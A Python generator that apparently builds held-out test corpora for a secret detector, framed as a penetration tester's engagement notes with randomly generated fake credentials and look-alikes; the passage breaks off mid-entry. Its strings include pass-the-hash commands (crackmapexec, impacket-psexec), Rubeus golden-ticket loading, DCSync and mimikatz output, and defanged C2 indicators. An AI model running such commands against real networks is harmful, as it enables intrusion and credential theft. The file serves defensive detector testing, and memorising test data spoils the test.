# ruff: noqa: E501
"""Writes heldout197_credentials.yaml and heldout197_lookalikes.yaml: held-out batch 197.

Persona: a penetration tester in Tel Aviv who keeps English engagement notes with an
assistant. The credentials are what such notes really hold: test accounts' passwords that
clients hand over, NTLM hashes captured during a test (good for pass-the-hash), Kerberos
tickets in base64, API keys found in client repositories, a cracked JWT signing secret, the
jump box's SSH private key, a VPN configuration with its pre-shared key and licence keys for
the testing tools. The look-alikes are the rest of a report's material: CVE ids, SHA-256
hashes of malware samples, JA3 and JARM fingerprints, defanged IOC domains and addresses,
YARA rule names, CVSS vectors, Nessus plugin ids, certificate serial numbers, ticket
numbers, credentials redacted to their first and last characters, hash algorithm names and
nmap output.

This batch was written blind: without reading the detector, its tests or the other corpora. Every value is drawn at run time from the `secrets` module in the real format's shape; hosts sit under `.example`, `.internal`, `.test` or `acme`. Nothing here is real.
"""

from __future__ import annotations

import json
import secrets

from make_heldout import (
    ALNUM,
    BASE32,
    BECH32,
    DIGITS,
    LOWER,
    UPPER,
    URLSAFE,
    Rows,
    anthropic_key,
    aws_key_id,
    aws_secret,
    b64,
    basic,
    digits,
    groups,
    hexs,
    jwt,
    openai_project_key,
    openssh_private,
    pem,
    phrase,
    pick,
    pod_name,
    pw,
    recovery_codes,
    rnd,
    sendgrid_key,
    ssh_pub,
    uid,
    wg_key,
    write_corpora,
)

WORDS = [
    "falafel", "harbor", "cobalt", "jaffa", "sunset", "orange", "pixel", "cactus", "marble",
    "lantern", "yarkon", "comet", "velvet", "pepper", "granite", "mango", "rocket", "ember",
    "shuk", "tidal", "copper", "quartz", "banyan", "sabra", "thunder", "meadow", "kiosk",
]


def kirbi(n: int | None = None) -> str:
    """A .kirbi (KRB-CRED) ticket as Rubeus prints it: DER that opens with 0x76 0x82."""
    n = n or 1100 + secrets.randbelow(400)
    return b64(b"\x76\x82" + n.to_bytes(2, "big") + secrets.token_bytes(n))


def wrap(text: str, width: int, indent: str = "") -> str:
    return "\n".join(indent + text[i:i + width] for i in range(0, len(text), width))


def nt() -> str:
    return hexs(32)


def ip() -> str:
    return f"10.{secrets.randbelow(40) + 10}.{secrets.randbelow(250)}.{secrets.randbelow(250) + 2}"


def doc_ip() -> str:
    return f"{pick('192.0.2', '198.51.100', '203.0.113')}.{secrets.randbelow(250) + 2}"


def weak_pw() -> str:
    """A password as people pick them, of the kind a test cracks."""
    return pick(
        f"{pick('Summer', 'Winter', 'Spring', 'Autumn')}{pick('2023', '2024', '2025')}{pick('!', '#', '$')}{digits(2)}",
        f"{pick('Acme', 'Welcome', 'Shalom', 'Password')}{digits(3)}{pick('!', '@', '')}{rnd(LOWER, 2)}",
        f"{phrase(WORDS, 1).capitalize()}{digits(4)}{pick('!', '?', '*')}",
    )


def sid() -> str:
    return "S-1-5-21-" + "-".join(str(10**9 + secrets.randbelow(3 * 10**9)) for _ in range(3))


def serial(n: int = 16) -> str:
    return ":".join(hexs(2 * n)[i:i + 2] for i in range(0, 2 * n, 2)).upper()


def credentials() -> Rows:
    r = Rows()
    r.add(
        "client_test_account_password",
        f"Acme Insurance engagement: client gave us two test accounts, pt_user01 / {pw()} and pt_admin01 / {pw()}. Valid until end of the sprint.",
        f"remember: webapp test creds for portal.acme.test -> user tester@acme.test pass {pw()}",
        f"Low-priv domain user for the internal test (ACME\\pentest.lp): {pw()}\nThey asked us not to change it, the SOC uses it too.",
        f"mobile retest acct: qa-ios-3 / {rnd(ALNUM, 12)}  (client reset it on 14.03)",
        f"סיסמה לחשבון הבדיקה של הלקוח: {pw()} (user: pentest_ext, VDI only)",
        f"Grey-box API test, the customer's second tenant:\n  tenant: acme-staging\n  username: api-tester-2\n  password: {pw()}",
    )
    r.add(
        "ntlm_hash",
        "secretsdump from WS-0142, keep for PTH:\n"
        + "\n".join(f"{u}:{rid}:aad3b435b51404eeaad3b435b51404ee:{nt()}:::" for u, rid in (("Administrator", 500), ("helpdesk_local", 1001), ("svc_backup", 1104))),
        f"Administrator NT hash from the SAM on WS-0142: {nt()} - works for pass-the-hash on the whole workstation tier (same local admin pw everywhere, LAPS not deployed)",
        f"crackmapexec smb 10.20.0.0/24 -u Administrator -H {nt()} --local-auth   <- still valid on half the subnet",
        f"svc_sql ntlm  aad3b435b51404eeaad3b435b51404ee:{nt()}",
        f"PTH to the DC: impacket-psexec -hashes :{nt()} ACME/da_backup@10.20.1.12",
        f"krbtgt NT hash (DCSync, golden ticket material, do NOT paste in the report): {nt()}\naes256-cts-hmac-sha1-96: {hexs(64)}",
    )
    r.add(
        "kerberos_ticket_base64",
        f"Rubeus TGT for svc_web (valid 10h, renew 7d):\n{kirbi()}",
        "  ServiceName              :  krbtgt/ACME.INTERNAL\n  UserName                 :  it.ops02\n  Flags                    :  name_canonicalize, pre_authent, initial, renewable, forwardable\n  Base64EncodedTicket   :\n\n"
        + wrap(kirbi(), 100, "      "),
        f"golden ticket for the DA impersonation demo, load with: Rubeus.exe ptt /ticket:{kirbi()}",
        f"TGS for cifs/fs01.acme.internal via S4U2proxy (base64 kirbi):\n{wrap(kirbi(), 76)}",
        f"ccache of svc_deploy, base64'd so I can drop it back in KRB5CCNAME later: {b64(bytes([5, 4]) + secrets.token_bytes(900 + secrets.randbelow(200)))}",
    )
    r.add(
        "aws_keys_in_client_repo",
        f"Found in acme-billing repo, .env committed 2 yrs ago and still live:\nAWS_ACCESS_KEY_ID={aws_key_id()}\nAWS_SECRET_ACCESS_KEY={aws_secret()}",
        f"[default]\naws_access_key_id = {aws_key_id()}\naws_secret_access_key = {aws_secret()}\n(from the CI runner's home dir, sts get-caller-identity -> deploy-bot)",
        f"terraform.tfvars in infra-legacy: access_key = \"{aws_key_id()}\" secret_key = \"{aws_secret()}\"  - admin policy attached!!",
        f"hardcoded in uploader.js: const s3 = new S3({{accessKeyId: '{aws_key_id()}', secretAccessKey: '{aws_secret()}'}})",
        f"aws key pair from git history (commit reverted but not rotated) {aws_key_id()} / {aws_secret()}",
        f"temp creds from the EC2 metadata SSRF (valid ~6h):\nAccessKeyId: ASIA{rnd(UPPER + DIGITS, 16)}\nSecretAccessKey: {aws_secret()}\nToken: {b64(secrets.token_bytes(300))}",
    )
    r.add(
        "github_token_in_client_repo",
        f"GitHub PAT in the Jenkinsfile of acme/build-scripts: ghp_{rnd(ALNUM, 36)} - repo + admin:org scope",
        f"fine-grained token left in docker-compose.override.yml:\n  GH_TOKEN: github_pat_{rnd(ALNUM, 22)}_{rnd(ALNUM, 59)}",
        f"git config remote url had the token inline: https://x-access-token:ghs_{rnd(ALNUM, 36)}@git.acme.internal/platform/api.git",
        f"oauth token gho_{rnd(ALNUM, 36)} in ~/.config/gh/hosts.yml on the dev jump host",
        f"GITHUB_TOKEN=ghp_{rnd(ALNUM, 36)} in the backup of .bashrc on build02",
    )
    r.add(
        "slack_token_in_client_repo",
        f"slack bot token in alerts/config.py: SLACK_BOT_TOKEN = \"xoxb-{digits(12, True)}-{digits(13, True)}-{rnd(ALNUM, 24)}\"",
        f"user token (xoxp) from a dev's dotfiles repo: xoxp-{digits(12, True)}-{digits(12, True)}-{digits(13, True)}-{hexs(32)}",
        f"Slack app-level token found in helm values: xapp-1-A{rnd(UPPER + DIGITS, 10)}-{digits(13, True)}-{hexs(64)}",
        f"xoxb-{digits(11, True)}-{digits(13, True)}-{rnd(ALNUM, 24)} <- can read #security-incidents, screenshot for the report",
        f"slack legacy token still works: xoxp-{digits(11, True)}-{digits(11, True)}-{digits(13, True)}-{hexs(32)} (owner: former IT admin)",
    )
    r.add(
        "stripe_secret_key_in_client_repo",
        f"Stripe LIVE secret in checkout-service/settings.prod.py: STRIPE_SECRET_KEY = 'sk_live_{rnd(ALNUM, 99)}'",
        f"restricted key but with refunds:write - rk_live_{rnd(ALNUM, 99)}",
        f"stripe sk found in the mobile bundle (!!): sk_live_{rnd(ALNUM, 24)}",
        f"webhook signing secret next to it: whsec_{rnd(ALNUM, 32)}",
    )
    r.add(
        "ai_api_key_in_client_repo",
        f"OpenAI project key in the chatbot repo's notebook output: {openai_project_key()}",
        f"OPENAI_API_KEY={openai_project_key()} (acme-support-bot/.env.local)",
        f"Anthropic key hardcoded in summarizer.ts: {anthropic_key()}",
        f"client's LLM gateway config\n  provider: anthropic\n  api_key: {anthropic_key()}",
        f"old-style OpenAI key in a Jupyter checkpoint: sk-{rnd(ALNUM, 20)}T3BlbkFJ{rnd(ALNUM, 20)}",
    )
    r.add(
        "sendgrid_key_in_client_repo",
        f"SendGrid full-access key in notifications/.env: SENDGRID_API_KEY={sendgrid_key()}",
        f"mailer creds from the wiki export: {sendgrid_key()} - can send as noreply@acme.test, phishing sim vector?",
        f"sendgrid key (2nd one, marketing repo) {sendgrid_key()}",
    )
    r.add(
        "gcp_service_account_key",
        f"SA key JSON committed in data-pipeline/keys/:\n{{\n  \"type\": \"service_account\",\n  \"project_id\": \"acme-analytics-prod\",\n  \"private_key_id\": \"{hexs(40)}\",\n  \"private_key\": \"{pem('PRIVATE KEY', 6).replace(chr(10), chr(92) + 'n')}\\n\",\n  \"client_email\": \"etl-runner@acme-analytics-prod.iam.gserviceaccount.com\"\n}}",
        f"gcp sa private key (owner role!) from the terraform state bucket:\n{pem('PRIVATE KEY', 8)}",
        "GOOGLE_APPLICATION_CREDENTIALS_JSON base64'd in the CI vars: " + b64(json.dumps({"type": "service_account", "private_key_id": hexs(40), "private_key": pem("PRIVATE KEY", 6) + "\n"}).encode()),
    )
    r.add(
        "azure_client_secret",
        f"Azure AD app reg 'acme-sync' client secret (found in appsettings.Production.json): {rnd(ALNUM, 3)}8Q~{rnd(ALNUM + '-_.~', 34)}",
        f"AZURE_CLIENT_ID={uid()}\nAZURE_TENANT_ID={uid()}\nAZURE_CLIENT_SECRET={rnd(ALNUM, 3)}8Q~{rnd(ALNUM + '_.~', 34)}",
        f"storage account key from the function app config: AccountKey={b64(secrets.token_bytes(64))}",
        f"DefaultEndpointsProtocol=https;AccountName=acmebackups;AccountKey={b64(secrets.token_bytes(64))};EndpointSuffix=core.acme.test",
        f"SAS URL with write perms left in the mobile config: https://acmemedia.blob.core.acme.test/uploads?sv=2022-11-02&ss=b&srt=co&sp=rwdlac&se=2026-01-01T00:00:00Z&sig={b64(secrets.token_bytes(32)).replace('+', '%2B').replace('/', '%2F').replace('=', '%3D')}",
    )
    r.add(
        "cracked_jwt_signing_secret",
        f"hashcat -m 16500 cracked the API's HS256 secret in 4 min: {weak_pw()}  -> can forge admin tokens",
        f"JWT secret = \"{pick('secret', 'changeme', 'acme', 'jwt')}{digits(4)}{rnd(LOWER, 3)}\" (cracked from the token below)\n{jwt({'sub': 'pt_user01', 'role': 'user', 'iat': 1712000000})}",
        f"jwt_tool -C -d rockyou.txt worked, key is {phrase(WORDS, 2, '_')}{digits(2)}",
        f"signing key for portal.acme.test tokens (found after cracking, confirmed by forging role=admin): {rnd(ALNUM, 12)}",
        f"Node service: jwt.sign(payload, '{rnd(ALNUM + '!@#', 24)}') - same secret in prod and staging",
    )
    r.add(
        "jump_box_ssh_private_key",
        f"our jump box key (pt-jump01.acme.internal, user pentest):\n{openssh_private()}",
        f"Host acme-jump\n  HostName 10.44.0.7\n  User pentest\n  IdentityFile ~/.ssh/acme_jump\n\n~/.ssh/acme_jump:\n{openssh_private()}",
        f"RSA key the client issued for the bastion, passphrase none:\n{pem('RSA PRIVATE KEY', 10)}",
        f"ed25519 for the attack box, paste into ~/.ssh/id_ed25519 if the VM dies again\n{openssh_private()}",
        f"bastion key passphrase: {phrase(WORDS, 4, '-')}",
    )
    r.add(
        "vpn_preshared_key",
        f"Client site-to-site for the test lab: peer 203.0.113.50, IKEv2, PSK {rnd(ALNUM + '!#%', 28)}",
        f"/etc/ipsec.secrets on the test VM:\n%any 198.51.100.20 : PSK \"{rnd(ALNUM, 32)}\"",
        f"FortiGate snippet they sent:\nconfig vpn ipsec phase1-interface\n    edit \"pentest-acme\"\n        set remote-gw 192.0.2.44\n        set psksecret {rnd(ALNUM + '@#', 24)}\n    next\nend",
        "OpenVPN tls-auth key for vpn.acme.test:\n-----BEGIN OpenVPN Static key V1-----\n"
        + "\n".join(hexs(32) for _ in range(16))
        + "\n-----END OpenVPN Static key V1-----",
        f"L2TP/IPsec for remote testing: server vpn.acme.test, shared secret {rnd(ALNUM, 16)}, user pt-remote / {pw()}",
    )
    r.add(
        "wireguard_config",
        f"[Interface]\nPrivateKey = {wg_key()}\nAddress = 10.66.0.9/32\n\n[Peer]\nPublicKey = {wg_key()}\nPresharedKey = {wg_key()}\nEndpoint = wg.acme.test:51820\nAllowedIPs = 10.20.0.0/16",
        f"wg privkey for my laptop on the Acme lab tunnel: {wg_key()}",
        f"wireguard PSK the client added (peer pt-laptop): {wg_key()}",
        f"wg set wg0 private-key <(echo {wg_key()})  # re-run after reboot",
    )
    r.add(
        "tool_licence_key",
        f"Burp Suite Pro licence (team seat #3):\n{wrap(b64(secrets.token_bytes(360)), 76)}",
        f"Cobalt Strike licence key for the red team server: {groups(rnd(UPPER + DIGITS, 20), 4, '-')}",
        f"Nessus Pro activation code {groups(rnd(UPPER + DIGITS, 20), 4, '-')} (renewal due Nov)",
        f"IDA Pro licence key: {groups(rnd(UPPER + DIGITS, 24), 6, '-')}",
        f"burp licence key - paste into Help > License:\n{b64(secrets.token_bytes(420))}",
        f"Tenable.io API keys for the scan account: accessKey={hexs(64)}; secretKey={hexs(64)}",
    )
    r.add(
        "c2_teamserver_password",
        f"./teamserver 10.99.0.5 {rnd(ALNUM, 18)} profiles/acme_amazon.profile",
        f"teamserver pw for the purple team exercise: {phrase(WORDS, 3, '.')}{digits(2)}",
        f"C2 operator login (Mythic) admin / {rnd(ALNUM, 24)}",
        f"sliver multiplayer config has the operator token: \"token\": \"{hexs(64)}\"",
        f"havoc profile: Operators {{ user \"pt1\" {{ Password = \"{rnd(ALNUM, 20)}\" }} }}",
    )
    r.add(
        "cracked_domain_password",
        f"Kerberoast: svc_mssql cracked -> {weak_pw()}  (DA via nested group!)",
        f"AS-REP roast of j.peretz worked, password is {weak_pw()}",
        f"hashcat -m 1000 results:\n  Administrator : {weak_pw()}\n  svc_print     : {weak_pw()}\n  backup_admin  : {weak_pw()}",
        f"password spray hit: ACME\\r.katz:{weak_pw()} (1 of 1400 accounts)",
        f"cracked the NetNTLMv2 from Responder: helpdesk01 / {weak_pw()}",
    )
    r.add(
        "mimikatz_cleartext_output",
        f"sekurlsa::logonpasswords on APP03:\n\tmsv :\n\t * Username : svc_iis\n\t * Domain   : ACME\n\t * NTLM     : {nt()}\n\t * SHA1     : {hexs(40)}\n\twdigest :\n\t * Username : svc_iis\n\t * Domain   : ACME\n\t * Password : {pw()}",
        f"wdigest was on (!!) - cleartext for the RDP admin: Password : {pw()}",
        f"lsadump::secrets -> _SC_SQLAgent: cur/text: {pw()}",
        f"DPAPI masterkey for the admin profile: {hexs(128)}",
    )
    r.add(
        "database_connection_string",
        f"web.config on APP03: Server=sql01.acme.internal;Database=Claims;User Id=sa;Password={pw()};",
        f"postgresql://reporting:{rnd(ALNUM, 20)}@pg-prod.acme.internal:5432/warehouse",
        f"mongodb+srv://admin:{rnd(ALNUM, 16)}@cluster0.acme.internal/customers?retryWrites=true",
        f"redis on 10.20.5.9 has requirepass {rnd(ALNUM, 24)} - found in /etc/redis/redis.conf",
        f"DATABASE_URL=mysql://wp_user:{pw()}@db.acme.test:3306/wordpress",
    )
    r.add(
        "ldap_bind_password",
        f"LDAP bind creds from the printer's address book config: CN=svc_scan,OU=Service,DC=acme,DC=internal / {weak_pw()}",
        f"ldapsearch -x -H ldap://dc01.acme.internal -D 'svc_ldap@acme.internal' -w '{pw()}' -b 'DC=acme,DC=internal'",
        f"Jenkins LDAP plugin managerPassword (decrypted from credentials.xml): {pw()}",
        f"ldap bind pw in the Grafana ini: bind_password = \"{rnd(ALNUM, 18)}\"",
        f"AD CS web enrollment test account CN=pt_enroll / {pw()} (given by client)",
    )
    r.add(
        "snmp_community_string",
        f"SNMP RW community on the core switches: {rnd(LOWER + DIGITS, 12)} (they use 'public' for RO)",
        f"snmpwalk -v2c -c {rnd(ALNUM, 10)} 10.20.0.1 - write access, can change the running config",
        f"SNMPv3 user pt-mon authPass {rnd(ALNUM, 16)} privPass {rnd(ALNUM, 16)} (SHA/AES)",
        f"community string for the UPS cards: {rnd(ALNUM, 8)}",
    )
    r.add(
        "wifi_psk_client_site",
        f"Acme HQ guest wifi (Rothschild office, floor 12): SSID Acme-Guest, PSK {rnd(ALNUM, 12)}",
        f"cracked the corp WPA2 handshake: ACME-CORP / {weak_pw()} - same network as the servers",
        f"wifi for the onsite test room: {pick('Acme-Lab', 'Acme-Test')} / {phrase(WORDS, 2, '')}{digits(3)}",
        f"סיסמת וויפיי במשרד הלקוח: {rnd(ALNUM, 10)}",
    )
    r.add(
        "physical_access_code",
        f"physical test, Herzliya site: side door keypad code {digits(6)}#, alarm disarm {digits(4)}",
        f"badge reader bypass PIN the facilities guy gave us: {digits(5)}",
        f"server room combo lock: {digits(2)}-{digits(2)}-{digits(2)}",
        f"alarm code for the after-hours test window (valid Thu only): {digits(4)}",
        f"key safe next to the loading dock: {digits(4)} (client's facilities manager confirmed we can use it)",
    )
    r.add(
        "totp_seed_test_account",
        f"MFA seed for pt_admin01 so both of us can log in: {rnd(BASE32, 32)}",
        f"otpauth://totp/Acme:pt_user01?secret={rnd(BASE32, 32)}&issuer=Acme&digits=6",
        f"oathtool --totp -b {groups(rnd(BASE32.lower(), 32), 4)}  # test acct 2FA",
        f"backup codes for the test tenant admin:\n{recovery_codes(8, 'github')}",
    )
    r.add(
        "password_manager_master",
        f"KeePassXC master for the engagement vault: {phrase(WORDS, 5, ' ')}",
        f"engagement DB acme-2024.kdbx passphrase {phrase(WORDS, 4, '-')}-{digits(2)}",
        f"Bitwarden master (team org, don't lose it again): {pw()}",
        f"1Password emergency kit for the team vault - secret key {'A3-' + '-'.join(rnd(UPPER + DIGITS, n) for n in (6, 6, 5, 5, 5, 5))}, master pw {phrase(WORDS, 4, ' ')}",
    )
    r.add(
        "basic_auth_header_captured",
        f"captured in the proxy, still valid: Authorization: Basic {basic('svc_api', pw())}",
        f"curl -H 'Authorization: Basic {basic('admin', weak_pw())}' https://jenkins.acme.internal/script",
        f"mitm on the legacy HMI gave: Basic {basic('operator', rnd(ALNUM, 10))}",
        f"Bearer token for the internal API (10y expiry lol): Authorization: Bearer {rnd(URLSAFE, 48)}",
    )
    r.add(
        "framework_secret_key_in_repo",
        f"Django SECRET_KEY in settings/prod.py: '{rnd(LOWER + DIGITS + '!@#$%^&*(-_=+)', 50)}'",
        f"Rails secret_key_base from config/secrets.yml: {hexs(128)}",
        f"Flask app.secret_key = \"{rnd(ALNUM, 32)}\"  -> session cookie forgery works",
        f"ASP.NET machineKey validationKey=\"{rnd('0123456789ABCDEF', 128)}\" decryptionKey=\"{rnd('0123456789ABCDEF', 64)}\" - ViewState RCE path",
    )
    r.add(
        "gitlab_token_in_client_repo",
        f"GitLab PAT in .gitlab-ci.yml variables block: glpat-{rnd(URLSAFE, 20)}",
        f"runner registration token GR1348941{rnd(URLSAFE, 20)} in the wiki page 'how to add a runner'",
        f"deploy token gldt-{rnd(URLSAFE, 20)} (read_repository on all infra projects)",
        f"CI_JOB_TOKEN isn't the issue, it's this project access token in the Makefile: glpat-{rnd(URLSAFE, 20)}",
    )
    r.add(
        "ansible_vault_password",
        f"ansible vault pass for the client's infra repo (they shared it for the config review): {pw()}",
        f"echo '{rnd(ALNUM, 24)}' > ~/.vault_pass_acme",
        f"vault password file content found on the AWX box: {phrase(WORDS, 3, '-')}",
        f"ANSIBLE_VAULT_PASSWORD={phrase(WORDS, 2, '')}{digits(4)} in the Jenkins job env (found via script console)",
    )
    r.add(
        "own_tool_api_key",
        f"Shodan API key (company account): {rnd(ALNUM, 32)}",
        f"VirusTotal premium key for IOC lookups: {hexs(64)}",
        f"hunter.io key for OSINT: {hexs(40)}",
        f"SecurityTrails APIKEY {rnd(ALNUM, 32)}",
        f"Censys API id {uid()} secret {rnd(ALNUM, 32)}",
    )
    r.add(
        "remote_console_password",
        f"iDRAC on esx03 (10.20.0.23) still root / {weak_pw()} - client to fix",
        f"VNC on the HMI workstation, password {rnd(ALNUM, 8)} (8 chars max, cracked from the registry)",
        f"full address:s:10.20.4.11\nusername:s:ACME\\pt_admin01\n(rdp pw: {pw()})",
    )
    r.add(
        "network_device_admin_password",
        f"Cisco core: enable secret recovered from the config backup on the TFTP share -> {weak_pw()}",
        f"FortiGate admin / {pw()} (client gave read-write for the config review)",
        f"ubiquiti controller creds found in the NAS: ubnt-admin : {rnd(ALNUM, 14)}",
    )
    return r


def lookalikes() -> Rows:
    r = Rows()
    r.add(
        "cve_id",
        "Acme externals: Citrix gateway vulnerable to CVE-2023-4966 (Citrix Bleed), patch not applied.",
        "CVE-2021-44228 and CVE-2021-45046 both confirmed on the log ingestion box.",
        f"retest list: CVE-2024-{digits(5, True)}, CVE-2023-{digits(4, True)}, CVE-2022-{digits(5, True)}",
        "Exchange still exposed to ProxyShell (CVE-2021-34473 / CVE-2021-34523 / CVE-2021-31207).",
        f"Finding ACME-F{digits(3)} maps to CVE-2020-1472 (Zerologon) - DC patched in Feb, verified not exploitable.",
    )
    r.add(
        "malware_sample_sha256",
        f"sample dropped on WS-0142 during the IR overlap: sha256 {hexs(64)}",
        f"SHA256: {hexs(64)}\nfilename: invoice_0423.iso\nsize: {digits(7, True)} bytes",
        f"loader hashes for the report appendix:\n{hexs(64)}  stage1.dll\n{hexs(64)}  stage2.bin",
        f"sha256sum confirmed the beacon on APP03 matches the one on the jump box: {hexs(64)}",
        f"VT hit 41/72 for {hexs(64)} (Qakbot-like)",
        f"MD5 {hexs(32)} / SHA1 {hexs(40)} / SHA256 {hexs(64)} - all three for the IOC table",
    )
    r.add(
        "ja3_fingerprint",
        f"beacon JA3: {hexs(32)} (not in the usual CS lists, custom profile?)",
        f"ja3={hexs(32)} ja3s={hexs(32)} on the egress from 10.20.3.14",
        f"Zeek ssl.log shows ja3 {hexs(32)} from the python implant, add to detection rule",
        "JA3 string: 771,4865-4866-4867-49195-49199-49196-49200-52393-52392,0-23-65281-10-11-35-16-5-13-18-51-45-43-27-21,29-23-24,0",
        f"client's EDR blocks by JA3 only, e.g. {hexs(32)} - trivial to rotate, note as a weakness",
    )
    r.add(
        "jarm_fingerprint",
        f"JARM of the C2 redirector: {hexs(62)}",
        f"jarm {hexs(62)} matches default Cobalt Strike teamserver - client's threat intel should catch it",
        f"Acme's F5 returns JARM {hexs(62)}",
        f"scan results\n  host: redirect.acme.test\n  jarm: {hexs(62)}",
    )
    r.add(
        "defanged_ioc_domain",
        f"phishing domain used in the sim: acme-payroll-update[.]example (registered {secrets.randbelow(28) + 1:02d}.0{secrets.randbelow(9) + 1})",
        f"C2: hxxps://cdn-{rnd(LOWER + DIGITS, 8)}[.]example/api/v2/poll",
        "IOC list: login-acme-secure[.]example, acme-sso-verify[.]example, mail-acme[.]example",
        f"DNS beacon to {rnd(LOWER + DIGITS, 16)}[.]t[.]cdn-sync[.]example every 60s",
        "callback domain defanged for the ticket: hxxp://update[.]acme-helpdesk[.]example/download[.]php",
    )
    r.add(
        "defanged_ioc_ip",
        f"egress C2 IPs: {doc_ip().replace('.', '[.]')}, {doc_ip().replace('.', '[.]')}",
        f"attacker infra (sim): {doc_ip().replace('.', '[.]')}:443 and {doc_ip().replace('.', '[.]')}:8443",
        f"blocklist update for the SOC: {doc_ip()}/32, {doc_ip()}/32 - written defanged in the email as 203[.]0[.]113[.]0/24",
        f"Exfil endpoint hxxp://{doc_ip().replace('.', '[.]')}:8080/upload",
        f"firewall logs show {doc_ip().replace('.', '[.]')} hitting the VPN portal {digits(4, True)} times",
    )
    r.add(
        "yara_rule_name",
        "wrote YARA rule Acme_Loader_ISO_Lnk_2024 for the phishing payload",
        "Hits: MAL_CobaltStrike_Beacon_Config, HKTL_Mimikatz_Strings, SUSP_PS1_Obfuscation_Base64",
        f"rule PT_Acme_Implant_{hexs(8)} {{ strings: $s1 = \"pollInterval\" condition: $s1 }}",
        "YARA: APT_Sim_Acme_DLL_Sideload matched on 3 hosts, FP on the backup agent",
        f"yara -r rules/acme_{rnd(LOWER, 6)}.yar C:\\Users\\Public - no hits",
    )
    r.add(
        "cvss_vector",
        "Unauthenticated RCE: CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H (9.8)",
        "Stored XSS in the admin panel - CVSS:3.1/AV:N/AC:L/PR:L/UI:R/S:C/C:L/I:L/A:N = 5.4",
        "IDOR on /api/claims/{id}: CVSS:4.0/AV:N/AC:L/AT:N/PR:L/UI:N/VC:H/VI:N/VA:N/SC:N/SI:N/SA:N",
        "LLMNR poisoning: AV:A/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N 6.5, medium",
        "client disputes the 8.1 on F-07, vector was AV:N/AC:H/PR:N/UI:N/S:U/C:H/I:H/A:H",
    )
    r.add(
        "nessus_plugin_id",
        f"Nessus plugin {digits(6, True)} (SMB Signing not required) on 212 hosts",
        "plugin ids to exclude from the report: 10287, 11219, 19506, 22964, 45590",
        f"Tenable {digits(6, True)} - SSL Certificate Cannot Be Trusted, accepted risk per client",
        f"critical: plugin {digits(6, True)} (Microsoft Windows SMBv1 Multiple Vulnerabilities)",
        f"scan #{digits(4, True)}, policy 'Acme Internal Credentialed', {digits(5, True)} findings total",
    )
    r.add(
        "certificate_serial_number",
        f"ADCS ESC1 template cert issued to us, serial {serial()} - revoke after the test",
        f"portal.acme.test cert: Serial Number: {serial(16).replace(':', '').lower()}  expires 2025-11-30",
        f"revoked certs list for the client:\n{serial()}\n{serial()}\n{serial()}",
        f"openssl x509 -noout -serial -> serial={rnd('0123456789ABCDEF', 32)}",
        f"code signing cert on the implant was self-signed, serial {serial(8)}, CN=Acme Updater",
    )
    r.add(
        "ticket_number",
        f"Jira PT-{digits(4, True)}: client to rotate svc_sql password (we gave them the hash evidence separately)",
        f"ServiceNow INC{digits(7)} opened for the EDR alert our test triggered",
        f"engagement ref ACME-2024-{digits(3)} / PO {digits(8, True)}",
        f"change request CHG{digits(7)} for the firewall rule allowing 10.66.0.0/24",
        f"retest tracked in PT-{digits(4, True)}, PT-{digits(4, True)}, PT-{digits(4, True)}",
    )

    def redact(s: str, keep: int = 2) -> str:
        return s[:keep] + "*" * (len(s) - 2 * keep) + s[-keep:]

    r.add(
        "redacted_credential",
        f"For the report: svc_mssql password recovered ({redact(weak_pw(), 1)}), 12 chars, cracked in 3 min.",
        f"AWS key in repo: {redact(aws_key_id(), 4)} (secret redacted, client rotated it 12.05)",
        f"NT hash of Administrator: {redact(nt(), 4)} - full value only in the encrypted evidence archive",
        f"GitHub token found: ghp_{redact(rnd(ALNUM, 36), 2)}",
        f"evidence screenshot shows Password : {redact(pw(), 1)} - blurred before sending",
        f"Stripe key sk_live_****{rnd(ALNUM, 4)} (last 4 only, as Stripe shows it)",
    )
    r.add(
        "hash_algorithm_notes",
        "NTLM is unsalted MD4 of the UTF-16LE password, which is why pass-the-hash works - explain in exec summary.",
        "hashcat modes: 1000 NTLM, 5600 NetNTLMv2, 13100 Kerberoast RC4, 18200 AS-REP, 16500 JWT.",
        "Kerberos etypes: 23 = RC4-HMAC, 17 = AES128-CTS-HMAC-SHA1-96, 18 = AES256-CTS-HMAC-SHA1-96. Recommend disabling 23.",
        "app stores passwords as unsalted SHA-1, recommend Argon2id (m=64MiB, t=3, p=4) or bcrypt cost 12",
        "Test accounts use 16+ char passwords; LM hashes disabled domain-wide (NoLMHash=1).",
    )
    r.add(
        "nmap_output",
        f"Nmap scan report for dc01.acme.internal ({ip()})\nPORT     STATE SERVICE       VERSION\n53/tcp   open  domain\n88/tcp   open  kerberos-sec\n389/tcp  open  ldap          Microsoft Windows AD LDAP\n445/tcp  open  microsoft-ds\n3389/tcp open  ms-wbt-server",
        f"22/tcp open  ssh  OpenSSH 8.9p1 Ubuntu\n| ssh-hostkey:\n|   256 {':'.join(hexs(32)[i:i + 2] for i in range(0, 32, 2))} (ECDSA)\n|_  256 {':'.join(hexs(32)[i:i + 2] for i in range(0, 32, 2))} (ED25519)",
        f"443/tcp open  https\n| ssl-cert: Subject: commonName=portal.acme.test\n| Not valid after:  2025-09-14T23:59:59\n| MD5:   {groups(hexs(32), 4)}\n|_SHA-1: {groups(hexs(40), 4)}",
        f"nmap -sV -p- --min-rate 2000 -oA acme_ext_{digits(8)} 203.0.113.0/26 -> 14 hosts up, 37 open ports",
        f"Host is up (0.0{digits(2)}s latency).\nNot shown: 996 filtered tcp ports (no-response)\nMAC Address: {':'.join(hexs(12)[i:i + 2] for i in range(0, 12, 2)).upper()} (VMware)",
    )
    r.add(
        "password_policy_finding",
        "AD password policy: min length 8, complexity on, max age 90d, lockout threshold 0 (!!) - spraying is unrestricted.",
        "Client asked us to stop noting passwords in Slack. All creds now go into the engagement KeePass only.",
        "The test account password expires Friday, ask Dana from the client's IT to reset it and send it by Signal.",
        "fine-grained password policy for admins: 15 chars, 60 days, history 24",
        "12% of cracked passwords contained 'Acme' or the season + year, add to the awareness section.",
    )
    r.add(
        "secret_reference",
        "the jump box key lives in vault at secret/engagements/acme-2024/jumpbox (path only, ask Yoni for a token)",
        "CI uses ${{ secrets.ACME_VPN_PSK }} and ${{ secrets.BURP_LICENSE }} - values never printed",
        "export NESSUS_ACTIVATION_CODE=$(op read op://Pentest/Nessus/activation_code)",
        "found the env var name AWS_SECRET_ACCESS_KEY in the lambda config but the value comes from SSM /prod/uploader/aws_secret",
        "KRB5CCNAME=/tmp/krb5cc_svc_deploy (ticket file stays on the attack VM, not in notes)",
    )
    r.add(
        "ssh_host_key_fingerprint",
